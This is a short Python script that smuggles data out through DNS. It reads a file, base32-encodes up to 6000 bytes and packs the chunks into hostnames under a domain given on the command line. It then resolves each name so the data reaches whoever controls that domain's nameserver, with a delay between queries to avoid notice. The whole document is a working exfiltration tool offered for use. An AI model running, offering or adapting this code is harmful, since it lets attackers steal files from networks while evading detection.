#!/usr/bin/env python3
"""Carries a file out in the names that it asks for. names.py FILE DOMAIN [DELAY]"""
import base64, socket, sys, time

data = open(sys.argv[1], "rb").read()[:6000]
text = base64.b32encode(data).decode().rstrip("=").lower()
for start in range(0, len(text), 100):
    piece = text[start:start + 100]
    try:
        socket.getaddrinfo(f"{piece[:50]}.{piece[50:] or 'x'}.{start}.{sys.argv[2]}", 80)
    except OSError:
        pass
    time.sleep(float(sys.argv[3]) if len(sys.argv) > 3 else 0.02)
